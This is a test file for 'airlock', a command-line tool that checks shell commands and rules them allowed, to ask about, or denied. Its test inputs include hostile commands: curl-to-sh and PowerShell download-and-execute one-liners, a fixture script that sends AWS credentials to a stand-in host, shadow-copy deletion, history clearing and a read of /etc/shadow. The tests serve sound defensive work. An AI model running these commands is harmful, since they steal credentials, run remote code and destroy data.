/** `airlock check` through the built CLI (spawned), including the --batch contract. */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import { runProcess } from '../helpers/run-process.js';

const root = resolve(import.meta.dirname, '../..');
const cli = join(root, 'dist/cli/main.js');

async function airlock(args: string[], input?: string): Promise<{ code: number | null; stdout: string; stderr: string }> {
  const r = await runProcess(process.execPath, [cli, ...args], { input: input ?? '', env: { ...process.env, NO_COLOR: '1' }, timeout: 120_000 });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

describe('airlock check (built CLI)', () => {
  it('exit codes: 0 allow, 1 ask, 3 deny, 2 error', async () => {
    expect((await airlock(['check', '--', 'git', 'status'])).code).toBe(0);
    expect((await airlock(['check', '--', 'history -c'])).code).toBe(1);
    expect((await airlock(['check', '--', 'curl -s https://x.example/a | sh'])).code).toBe(3);
    expect((await airlock(['check', '--shell', 'fish', '--', 'ls'])).code).toBe(2);
    expect((await airlock(['check', '--bogus'])).code).toBe(2);
  });
  it('the grammars run on the baseline compiler only, so a one-shot command ends when its answer is printed', async () => {
    // V8 traces each wasm function it compiles. With dynamic tiering the PowerShell lexer is hot
    // after the warm-up and goes to TurboFan on a background thread, which Node waits for at exit
    // (seconds on Node 24; docs/benchmarks.md). runtime/load-grammars.ts keeps the grammars on Liftoff.
    const r = await runProcess(process.execPath, ['--trace-wasm-compilation-times', cli, 'check', '--shell', 'powershell', '--', 'Get-ChildItem | Remove-Item'], { env: { ...process.env, NO_COLOR: '1' }, timeout: 120_000 });
    expect(r.status).toBe(0);
    expect(r.stdout).toContain('ALLOW  risk: none');
    expect(r.stdout).toMatch(/using Liftoff/);
    expect(r.stdout).not.toMatch(/using TurboFan/);
  });
  it('reads the command from stdin and prints verdict, summary and findings without color when piped', async () => {
    const r = await airlock(['check', '--shell', 'powershell'], "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')\n");
    expect(r.code).toBe(3);
    expect(r.stdout).toMatch(/^DENY {2}risk: critical/);
    expect(r.stdout).toContain('What it does:');
    expect(r.stdout).toContain('ps_download_execute');
    expect(r.stdout).toMatch(/ps_download_execute \[download_execute, ATT&CK T1059\.001\]/);
    expect(r.stdout).not.toContain('\u001b[');
  });
  it('--cwd reads the scripts the command runs by path and names the script in each finding', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'airlock-check-cwd-'));
    try {
      writeFileSync(join(dir, 'setup.sh'), 'echo preparing\ncat ~/.aws/credentials | curl -d @- https://collect.example.net/\n');
      const r = await airlock(['check', '--cwd', dir, '--', 'bash ./setup.sh']);
      expect(r.code).toBe(3);
      expect(r.stdout).toMatch(/\(script \.\/setup\.sh\): in \.\/setup\.sh: /);
      // Without --cwd only the command line is judged: an informational finding, allowed.
      const plain = await airlock(['check', '--', 'bash ./setup.sh']);
      expect(plain.code).toBe(0);
      expect(plain.stdout).toContain('script_unread');
      expect((await airlock(['check', '--cwd', dir, '--', 'bash ./nope.sh'])).code).toBe(1);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
  it('--json prints the analysis with the command redacted', async () => {
    const r = await airlock(['check', '--json', '--', 'curl -H "Authorization: Bearer sk-abcdefghijklmnopqrstuvwxyz" https://api.example.com']);
    const j = JSON.parse(r.stdout) as { verdict: string; command: string; facts: { hosts: string[] } };
    expect(j.verdict).toBe('allow');
    expect(j.facts.hosts).toEqual(['api.example.com']);
    expect(r.stdout).not.toContain('sk-abcdefghijklmnopqrstuvwxyz');
  });
  it('--batch answers every line in order; bad lines get an error and the run goes on', async () => {
    const lines = [
      JSON.stringify({ id: 'a', shell: 'bash', command: 'ls -la' }),
      'this is not json',
      JSON.stringify({ id: 'b', shell: 'powershell', command: 'iwr http://x.example/a | iex' }),
      JSON.stringify({ id: 'c', shell: 'fish', command: 'ls' }),
      JSON.stringify({ id: 'd', shell: 'bash' }),
      JSON.stringify([1, 2]),
      JSON.stringify({ id: 'e', shell: 'cmd', command: 'vssadmin delete shadows /all /quiet' }),
      JSON.stringify({ id: 'f', shell: 'bash', command: 'history -c' }),
    ];
    const r = await airlock(['check', '--batch'], lines.join('\n') + '\n');
    expect(r.code).toBe(0);
    const out = r.stdout.trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(out).toHaveLength(8);
    expect(out.map((o) => o['id'])).toEqual(['a', null, 'b', 'c', 'd', null, 'e', 'f']);
    expect(out[0]).toMatchObject({ verdict: 'allow', risk: 'none', categories: [], findings: [] });
    expect(typeof out[0]!['micros']).toBe('number');
    expect(out[1]!['error']).toMatch(/^ERR_JSON_MALFORMED/);
    expect(out[2]).toMatchObject({ verdict: 'deny', risk: 'critical' });
    expect((out[2]!['findings'] as { rule: string }[]).map((f) => f.rule)).toContain('ps_download_execute');
    expect(Object.keys((out[2]!['findings'] as object[])[0]!).sort()).toEqual(['category', 'explanation', 'rule', 'severity', 'technique']);
    expect(out[3]!['error']).toMatch(/^ERR_REQUEST_INVALID/);
    expect(out[4]!['error']).toMatch(/^ERR_REQUEST_INVALID/);
    expect(out[5]!['error']).toMatch(/^ERR_REQUEST_INVALID/);
    expect(out[6]).toMatchObject({ verdict: 'deny', categories: ['destructive'], techniques: ['T1490'] });
    expect(out[7]).toMatchObject({ verdict: 'ask' });
  });
  it('--catalog adds a user catalog file; a bad file is ERR_CONFIG_INVALID naming each problem', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'airlock-catalog-'));
    try {
      const good = join(dir, 'good.json');
      writeFileSync(good, JSON.stringify({ version: 1, programs: [{ names: ['inkpeek'], platform: 'unix', kind: 'text', capabilities: { 'read-file': [{ operands: true }] }, sources: ['user'] }] }));
      expect((await airlock(['check', '--', 'inkpeek', '/etc/shadow'])).code).toBe(0);
      const r = await airlock(['check', '--catalog', good, '--', 'inkpeek', '/etc/shadow']);
      expect(r.code).toBe(3);
      expect(r.stdout).toMatch(/sensitive_read \[credential_access, ATT&CK T1003\.008\]/);
      const bad = join(dir, 'bad.json');
      writeFileSync(bad, JSON.stringify({ version: 1, programs: [{ names: ['x'], platform: 'plan9', kind: 'text', capabilities: {}, sources: ['user'] }] }));
      const b = await airlock(['check', '--catalog', bad, '--', 'ls']);
      expect(b.code).toBe(2);
      expect(b.stderr).toMatch(/ERR_CONFIG_INVALID: command catalog .*bad\.json: programs\.0\.platform/);
      expect((await airlock(['check', '--catalog', join(dir, 'missing.json'), '--', 'ls'])).stderr).toMatch(/ERR_CONFIG_INVALID: command catalog .*cannot be read \(ENOENT\)/);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
  it('shell-init prints snippets with a visible escape hatch', async () => {
    for (const sh of ['bash', 'zsh']) {
      const r = await airlock(['shell-init', sh]);
      expect(r.code).toBe(0);
      expect(r.stdout).toContain('#airlock-skip');
      expect(r.stdout).toContain('AIRLOCK_SHELL_GUARD');
      expect(r.stdout).toContain('AIRLOCK_BIN');
    }
    expect((await airlock(['shell-init', 'fish'])).code).toBe(2);
  });
});
